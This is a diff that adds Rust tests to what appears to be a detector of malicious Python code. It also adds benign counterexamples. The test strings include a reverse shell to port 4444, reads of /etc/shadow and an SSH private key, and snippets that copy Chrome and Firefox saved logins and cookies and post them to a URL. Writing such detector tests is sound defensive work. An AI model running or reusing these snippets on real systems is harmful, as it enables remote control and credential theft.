@@ -181,3 +181,36 @@ fn a_list_of_what_is_not_to_be_touched_collects_nothing() {
     let behind = "key = open(home('~/.ssh/id_rsa'))\n";
     assert_eq!(found("a.py", &format!("{list}{compared}{behind}")), [Found::CollectSecrets]);
 }
+
+#[test]
+fn a_stream_that_is_turned_to_another_file_is_no_shell() {
+    for text in [
+        "import os, sys\ndef claim():\n    os.dup2(sys.stderr.fileno(), sys.stdout.fileno())\n",
+        "import os, sys\nlog = open('/tmp/a.log', 'w')\nos.dup2(log.fileno(), sys.stdout.fileno())\n",
+    ] {
+        assert_eq!(found("a.py", text), [], "{text}");
+    }
+    let shell = "import os, socket, subprocess\ns = socket.socket()\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])\n";
+    assert_eq!(found("a.py", shell), [Found::Shell]);
+}
+
+#[test]
+fn a_path_in_a_list_of_marks_is_not_read() {
+    let marks = "RULES = [\n    Rule(\n        name=\"files\",\n        string_indicators=[\n            \"/etc/\",\n            \"/etc/shadow\",\n        ],\n        sections=[\".fs\"],\n    ),\n    Rule(name=\"other\", string_indicators=[\"socket\"]),\n]\n\nfor rule in RULES:\n    for mark in rule.string_indicators:\n        hits += mark in text\n";
+    assert_eq!(found("a.py", marks), []);
+    let taken = "def take():\n    suspicious_files = [\n        \"/etc/shadow\",\n    ]\n    for path in suspicious_files:\n        print(open(path).read())\n";
+    assert_eq!(found("a.py", taken), [Found::CollectSecrets]);
+}
+
+#[test]
+fn logins_of_browsers_are_secrets_wherever_they_lie() {
+    for text in [
+        "cp = shutil.copy(os.path.join(home, \"Library/Application Support/Google/Chrome/Default/Login Data\"), tmp)\nrequests.post(URL, data=open(tmp, 'rb').read())\n",
+        "db = os.path.join(os.environ['LOCALAPPDATA'], r\"Google\\Chrome\\User Data\\Default\\Network\\Cookies\")\nrequests.post(URL, files={'f': open(db, 'rb')})\n",
+        "for f in glob.glob(home + '/.mozilla/firefox/*/logins.json'):\n    requests.post(URL, data=open(f).read())\n",
+    ] {
+        assert_eq!(found("a.py", text), [Found::HarvestAndSend], "{text}");
+    }
+    let only = "jar = browser.get_cookies()\nrequests.post(URL, json={'Cookies': len(jar)})\n";
+    assert_eq!(found("a.py", only), []);
+}
